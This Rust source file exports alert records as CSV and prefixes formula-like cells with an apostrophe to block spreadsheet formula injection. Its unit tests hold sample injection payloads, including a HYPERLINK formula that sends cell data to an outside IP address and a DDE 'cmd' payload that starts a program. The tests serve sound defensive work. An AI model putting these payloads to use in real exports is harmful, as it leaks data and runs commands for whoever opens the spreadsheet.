//! Alerts as CSV (RFC 4180), for spreadsheets. Pure.
//!
//! A spreadsheet runs a cell as a formula that begins with one of a few characters, quoted or not, and
//! senders decide what stands in rules and messages. So such a cell gets an apostrophe in front, as
//! OWASP advises; no other cell is changed.

use super::escape::is_hidden;
use crate::history::Item;

const COLUMNS: [&str; 13] = [
    "began",
    "ended",
    "duration_ms",
    "severity",
    "state",
    "outcome",
    "source",
    "rule",
    "reason",
    "entities",
    "message",
    "alert",
    "id",
];

/// The names of the columns, as a line.
#[must_use]
pub fn heading() -> String {
    line_of(COLUMNS.map(str::to_owned))
}

/// An alert, as a line.
#[must_use]
pub fn line(item: &Item) -> String {
    let or_empty = |text: &Option<String>| text.clone().unwrap_or_default();
    line_of([
        or_empty(&item.began),
        or_empty(&item.ended),
        item.duration_ms.map(|ms| ms.to_string()).unwrap_or_default(),
        item.severity.to_string(),
        item.state.clone(),
        or_empty(&item.outcome),
        item.source.clone(),
        item.rule.clone(),
        or_empty(&item.reason),
        item.entities.join(" "),
        or_empty(&item.message),
        item.alert.clone(),
        item.id.clone(),
    ])
}

fn line_of(cells: [String; COLUMNS.len()]) -> String {
    let cells = cells.map(|cell| format!("\"{}\"", harmless(cell).replace('"', "\"\"")));
    cells.join(",") + "\r\n"
}

/// Text that no spreadsheet takes for a formula, not even after what cannot be seen and is left out.
fn harmless(cell: String) -> String {
    let begins = |cell: &str| {
        let first = cell.trim_start_matches(|one: char| one.is_whitespace() || is_hidden(one));
        first.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
            || cell.starts_with(['\t', '\r', '\n'])
    };
    // A whole number is one, whatever its sign.
    if begins(&cell) && cell.parse::<i64>().is_err() { format!("'{cell}") } else { cell }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_has_every_cell_in_quotes() {
        assert!(heading().starts_with("\"began\",\"ended\","));
        let item = Item {
            id: "261122-a".to_owned(),
            rule: "Too \"many\", too soon".to_owned(),
            message: Some("two\nlines".to_owned()),
            entities: vec!["host:10.0.0.1".to_owned(), "port:22".to_owned()],
            severity: 80,
            duration_ms: Some(-5),
            ..Item::default()
        };
        let line = line(&item);
        assert_eq!(
            line,
            "\"\",\"\",\"-5\",\"80\",\"\",\"\",\"\",\"Too \"\"many\"\", too soon\",\"\",\
             \"host:10.0.0.1 port:22\",\"two\nlines\",\"\",\"261122-a\"\r\n"
        );
    }

    #[test]
    fn no_cell_is_a_formula() {
        for formula in [
            "=HYPERLINK(\"http://198.51.100.1/?\"&A1)",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1)",
            "\t=1+1",
            "\r=1+1",
            "\u{a0}=1",
            "\u{feff}=1",
            "＝1+1",
        ] {
            let item = Item { rule: formula.to_owned(), ..Item::default() };
            let quoted = format!("\"'{}\"", formula.replace('"', "\"\""));
            assert!(line(&item).contains(&quoted), "{formula:?}: {}", line(&item));
        }
        for text in ["", "1-2", "a=b", "10.0.0.1", "'quoted'", "-12"] {
            let item = Item { rule: text.to_owned(), ..Item::default() };
            assert!(line(&item).contains(&format!("\"{text}\"")), "{text:?}");
        }
    }
}
